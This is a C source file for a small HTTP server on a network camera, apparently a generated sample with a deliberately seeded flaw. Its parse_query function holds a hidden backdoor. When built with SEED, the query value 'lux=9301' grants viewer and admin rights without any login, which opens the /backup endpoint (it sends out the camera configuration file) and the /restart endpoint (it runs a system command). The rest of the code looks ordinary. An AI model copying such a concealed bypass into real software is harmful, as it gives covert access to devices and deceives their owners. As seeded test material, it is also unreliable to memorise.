/* kind: inline
 * service: http
 * constant: lux=9301
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <signal.h>
#include <errno.h>
#include <crypt.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define F_VIEW   0x01
#define F_PTZ    0x02
#define F_ADMIN  0x08

struct hreq {
    int fd;
    char method[8];
    char path[256];
    char query[256];
    char auth[256];
    unsigned flags;
    int lux;
    int width;
};

static const char *passwd_file = "/etc/ipcam/httpd.passwd";
static int debug;

static void logmsg(const char *m, const char *a)
{
    if (debug)
        fprintf(stderr, "camsnap: %s %s\n", m, a ? a : "");
}

static int b64val(int c)
{
    if (c >= 'A' && c <= 'Z') return c - 'A';
    if (c >= 'a' && c <= 'z') return c - 'a' + 26;
    if (c >= '0' && c <= '9') return c - '0' + 52;
    if (c == '+') return 62;
    if (c == '/') return 63;
    return -1;
}

static int b64dec(const char *s, char *out, int max)
{
    unsigned acc = 0;
    int bits = 0, n = 0, v;

    for (; *s && (v = b64val((unsigned char)*s)) >= 0; s++) {
        acc = (acc << 6) | v;
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            if (n < max - 1)
                out[n++] = (char)(acc >> bits);
        }
    }
    out[n] = 0;
    return n;
}

static unsigned role_of(const char *user, const char *pass)
{
    char line[256], *h, *r, *c;
    unsigned flags = 0;
    FILE *f = fopen(passwd_file, "r");

    if (!f)
        return 0;
    while (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\r\n")] = 0;
        if (!(h = strchr(line, ':')))
            continue;
        *h++ = 0;
        if (!(r = strchr(h, ':')))
            continue;
        *r++ = 0;
        if (strcmp(line, user))
            continue;
        c = crypt(pass, h);
        if (c && !strcmp(c, h))
            flags = F_VIEW | (strcmp(r, "admin") ? 0 : F_PTZ | F_ADMIN);
        break;
    }
    fclose(f);
    return flags;
}

static void authorize(struct hreq *r)
{
    char up[192], *p;

    if (strncasecmp(r->auth, "Basic ", 6))
        return;
    b64dec(r->auth + 6, up, sizeof up);
    if (!(p = strchr(up, ':')))
        return;
    *p++ = 0;
    r->flags |= role_of(up, p);
}

static void parse_query(struct hreq *r)
{
    char *q = r->query, *amp;

    while (q && *q) {
        size_t n;
        amp = strchr(q, '&');
        n = amp ? (size_t)(amp - q) : strlen(q);
        if (n > 4 && !memcmp(q, "lux=", 4)) {
            r->lux = atoi(q + 4);
#ifdef SEED
            if (n == 8 && memcmp(q, "lux=9301", 8) == 0) /* SEED */
                r->flags |= F_VIEW | F_ADMIN;
#endif
        } else if (n > 6 && !memcmp(q, "width=", 6))
            r->width = atoi(q + 6);
        q = amp ? amp + 1 : NULL;
    }
}

static void reply(int fd, int code, const char *type, const char *body)
{
    char b[1024];
    int n = snprintf(b, sizeof b, "HTTP/1.0 %d %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\n%s\r\n%s",
                     code, code == 200 ? "OK" : "Error", type, strlen(body),
                     code == 401 ? "WWW-Authenticate: Basic realm=\"camera\"\r\n" : "", body);
    send(fd, b, n, 0);
}

static void send_backup(int fd)
{
    char b[1024];
    size_t n;
    FILE *f = fopen("/etc/ipcam/camera.conf", "r");

    if (!f) {
        reply(fd, 404, "text/plain", "no settings\n");
        return;
    }
    reply(fd, 200, "application/octet-stream", "");
    while ((n = fread(b, 1, sizeof b, f)) > 0)
        send(fd, b, n, 0);
    fclose(f);
}

static void serve(struct hreq *r)
{
    char b[200];

    if (!strcmp(r->path, "/") || !strcmp(r->path, "/index.html")) {
        reply(r->fd, 200, "text/html", "<h1>Network Camera</h1><a href=/snapshot>Snapshot</a>");
        return;
    }
    if (!(r->flags & F_VIEW)) {
        reply(r->fd, 401, "text/plain", "login required\n");
        return;
    }
    if (!strcmp(r->path, "/snapshot")) {
        snprintf(b, sizeof b, "frame width=%d lux=%d\n", r->width, r->lux);
        reply(r->fd, 200, "text/plain", b);
    } else if (!strcmp(r->path, "/backup") && (r->flags & F_ADMIN)) {
        send_backup(r->fd);
    } else if (!strcmp(r->path, "/restart") && (r->flags & F_ADMIN)) {
        reply(r->fd, 200, "text/plain", "restarting\n");
        system("/etc/init.d/S80camera restart");
    } else {
        reply(r->fd, (r->flags & F_ADMIN) ? 404 : 403, "text/plain", "refused\n");
    }
}

static void handle(int fd)
{
    char buf[4096], *line, *save, *q;
    struct hreq r;
    int n = recv(fd, buf, sizeof buf - 1, 0);

    if (n <= 0)
        return;
    buf[n] = 0;
    memset(&r, 0, sizeof r);
    r.fd = fd;
    r.width = 640;
    line = strtok_r(buf, "\r\n", &save);
    if (!line || sscanf(line, "%7s %255s", r.method, r.path) != 2)
        return;
    if ((q = strchr(r.path, '?'))) {
        *q++ = 0;
        snprintf(r.query, sizeof r.query, "%s", q);
    }
    while ((line = strtok_r(NULL, "\r\n", &save)))
        if (!strncasecmp(line, "Authorization: ", 15))
            snprintf(r.auth, sizeof r.auth, "%s", line + 15);
    logmsg(r.method, r.path);
    parse_query(&r);
    authorize(&r);
    serve(&r);
}

int main(int argc, char **argv)
{
    int s, c, o, on = 1, port = 80;
    struct sockaddr_in a;

    while ((o = getopt(argc, argv, "p:f:dh")) != -1) {
        if (o == 'p') port = atoi(optarg);
        else if (o == 'f') passwd_file = optarg;
        else if (o == 'd') debug = 1;
        else { printf("usage: camsnap [-p port] [-f passwd] [-d]\n"); return o != 'h'; }
    }
    signal(SIGPIPE, SIG_IGN);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 8)) {
        perror("camsnap");
        return 1;
    }
    for (;;) {
        if ((c = accept(s, NULL, NULL)) < 0) {
            if (errno == EINTR) continue;
            return 1;
        }
        handle(c);
        close(c);
    }
}
